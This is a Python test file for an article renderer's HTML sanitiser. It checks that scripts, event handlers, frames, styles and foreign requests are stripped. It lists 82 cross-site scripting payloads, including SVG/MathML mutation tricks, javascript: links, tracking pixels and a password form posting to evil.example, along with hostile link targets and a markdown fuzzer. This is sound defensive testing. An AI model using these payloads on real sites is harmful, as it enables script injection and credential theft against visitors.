"""No script, handler, frame, style or foreign request survives in what is rendered or cleaned (P10, T16)."""

import random
import re
from collections.abc import Iterator
from html.parser import HTMLParser

import lxml.html
import pytest

from nightdesk.lines.article.rendering.cleaning import clean
from nightdesk.lines.article.rendering.links import Site
from nightdesk.lines.article.rendering.page import render
from nightdesk.providers.text.questions import ArticleWritten, SourceDocument

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<script>alert(1)//",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0csrc='https://evil.example/x.js'></script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "</p><script>alert(1)</script><p>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror = alert(1) >",
    "<img/src=x/onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    "<img src=//evil.example/pixel.gif>",
    "<img src=/\\evil.example/pixel.gif>",
    "<img srcset='https://evil.example/a 1x' src=/ok.png>",
    "<img src=javascript:alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img \x00src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=alert(1)>",
    "<img lowsrc=https://evil.example/a dynsrc=https://evil.example/b>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=Evil.class></applet>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=blob:https://evil.example/1>x</a>",
    "<a href=/ok onmouseover=alert(1)>x</a>",
    "<a href=/ok style='position:fixed;top:0;left:0;width:100%;height:100%'>x</a>",
    "<a href=/ok ping=https://evil.example/ping target=_top>x</a>",
    '<a href="javascript&colon;alert(1)">x</a>',
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<p style=background:url(https://evil.example/x)>x</p>",
    "<p style=behavior:url(x.htc)>x</p>",
    "<div onclick=alert(1)>x</div>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<video poster=https://evil.example/x.png><source src=https://evil.example/x.mp4></video>",
    "<audio src=https://evil.example/x.mp3 autoplay></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<table background=https://evil.example/x><td background=https://evil.example/y>x</table>",
    "<p id=cookie name=attributes><img name=getElementById src=/a.png></p>",
    "<plaintext><img src=x onerror=alert(1)>",
]

WRAPPERS = [
    "{}",
    "<p>{}</p>",
    "<p>Lettuce {} grows</p>",
    "<div>\n\n{}\n\n</div>",
    "<!-- {} -->",
    "<!--><b>{}</b>-->",
    "<table><tr><td>{}</td></tr></table>",
    "<ul><li><ul><li>{}</li></ul></li></ul>",
    '<p title="{}">x</p>',
    "<p title='{}'>x</p>",
    "<svg><desc>{}</desc></svg>",
    "<textarea>{}</textarea>{}",
    "<title>{}</title>{}",
    "<noscript>{}</noscript>",
    "<a href=/ok>{}</a><b><i>{}",
]

MARKDOWN_WRAPPERS = [
    "{}",
    "Lettuce {} grows.",
    "> {}",
    "- {}\n- b",
    "1. {}\n\n   {}",
    "## {}",
    "| a | b |\n|---|---|\n| {} | c |",
    "[{}](https://docs.example/a)",
    "[x]({})",
    "![{}](https://evil.example/x.png)",
    "[x][r]\n\n[r]: {}",
    "**{}** and `{}`",
    "```html\n{}\n```",
    "    {}",
    "<{}>\n\n[^1]: {}",
]

TAGS = {
    *(
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "em",
        "figcaption",
        "figure",
        "hr",
        "img",
        "li",
        "ol",
        "p",
        "pre",
    ),
    *("section", "strong", "sup", "h2", "h3", "h4", "h5", "h6"),
    *("table", "tbody", "td", "th", "thead", "tr", "ul"),
}
ATTRIBUTES = {"href", "title", "id", "src", "alt", "width", "height", "loading", "start", "class"}


class StartTags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def elements(html: str) -> Iterator[tuple[str, dict[str, str]]]:
    """Every element as two parsers see it, which do not agree about broken HTML."""
    reader = StartTags()
    reader.feed(html)
    reader.close()
    yield from reader.found
    body = lxml.html.document_fromstring(f"<body>{html}</body>").body
    for element in body.iterdescendants():
        yield str(element.tag), {str(name): str(value) for name, value in element.attrib.items()}


def dangers(html: str) -> list[str]:
    found = []
    for tag, attributes in elements(html):
        if tag not in TAGS:
            found.append(f"element {tag}")
        for name, value in attributes.items():
            if name not in ATTRIBUTES:
                found.append(f"attribute {name} of {tag}")
            if name == "src" and not re.fullmatch(r"/(?![/\\]).*", value):
                found.append(f"picture from {value}")
            if name == "href" and not re.match(r"https?://|#(?:h|cite|source)-|/(?![/\\])", value):
                found.append(f"link to {value}")
            if name == "id" and not re.match(r"(?:h|cite|source)-", value):
                found.append(f"id {value}")
    return found


def rendered(markdown: str) -> str:
    article = ArticleWritten(
        title="A lettuce of one's own",
        meta_title="Lettuce",
        meta_description="Lettuce",
        markdown=f"{markdown}\n\n{'Lettuce grows in water. ' * 10}",
    )
    documents = [SourceDocument(number=1, title="<script>alert(1)</script>", url="https://docs.example/a")]
    return render(article, documents, Site("Desk")).html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cleaned_html_holds_nothing_that_runs_or_loads(payload: str) -> None:
    for wrapper in WRAPPERS:
        html = clean(wrapper.replace("{}", payload))
        assert dangers(html) == [], (wrapper, html)
        assert clean(html) == html, (wrapper, "cleaning twice changes it")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_rendered_article_holds_nothing_that_runs_or_loads(payload: str) -> None:
    for wrapper in MARKDOWN_WRAPPERS:
        html = rendered(wrapper.replace("{}", payload))
        assert dangers(html) == [], (wrapper, html)
        assert "<img" not in html
        outside = [href for _, a in elements(html) if (href := a.get("href", "")).startswith("http")]
        assert set(outside) <= {"https://docs.example/a"}, (wrapper, outside)


def test_the_corpus_has_the_promised_size_and_its_judge_sees_the_danger() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 82
    assert len(WRAPPERS) == len(MARKDOWN_WRAPPERS) == 15
    seen = [payload for payload in PAYLOADS if dangers(payload)]
    assert len(seen) >= 80, set(PAYLOADS) - set(seen)


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "&#106;avascript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "file:///etc/passwd",
        "//evil.example/x",
        "/\\evil.example/x",
        "https://evil.example/x",
        "https://docs.example@evil.example/a",
        "https://docs.example.evil.example/a",
        "https://evil.example/https://docs.example/a",
        "http://[::1",
        "https://docs.example:99999/a",
    ],
)
def test_a_link_that_is_no_source_becomes_text(href: str) -> None:
    for markdown in (f"[read]({href})", f"[read](<{href}>)", f"<{href}>", f"[read][r]\n\n[r]: {href}"):
        html = rendered(markdown)
        assert "<a " not in html, (markdown, html)


SCRAPS = [
    *(
        "# ",
        "## ",
        "- ",
        "1. ",
        "> ",
        "\n",
        "\n\n",
        "    ",
        "`",
        "```\n",
        "**",
        "*",
        "_",
        "~~",
        "[",
        "]",
        "(",
        ")",
    ),
    *(
        "!",
        "[^1]",
        "[^9]",
        "[1]",
        "<b>",
        "</b>",
        "<script>",
        "</script>",
        "<!--",
        "-->",
        "&amp;",
        "&lt;",
        "|",
    ),
    *(
        "|---|---|\n",
        "word ",
        "x_y",
        "http://e.example",
        "\\",
        "\t",
        "---\n",
        "===\n",
        "<a@b.example>",
        "[^1]: z",
    ),
    *("<img src=x onerror=alert(1)>", "javascript:alert(1)", "\x00", "\u202e", "水", "é"),
]


@pytest.mark.parametrize("seed", range(8))
def test_no_jumble_of_markdown_breaks_the_rendering_or_gets_through_it(seed: int) -> None:
    chance = random.Random(seed)
    for _ in range(100):
        markdown = "".join(chance.choices(SCRAPS, k=chance.randint(1, 50)))
        html = rendered(markdown)
        assert dangers(html) == [], (markdown, html)
        assert "<img" not in html


@pytest.mark.parametrize("piece", ["[", "*a ", "> ", "- ", "<b>", "[a](", "`", "|"])
@pytest.mark.timeout(30)
def test_hostile_repetition_as_long_as_an_article_may_be_does_not_hang_the_rendering(piece: str) -> None:
    assert dangers(rendered(piece * (119_000 // len(piece)))) == []
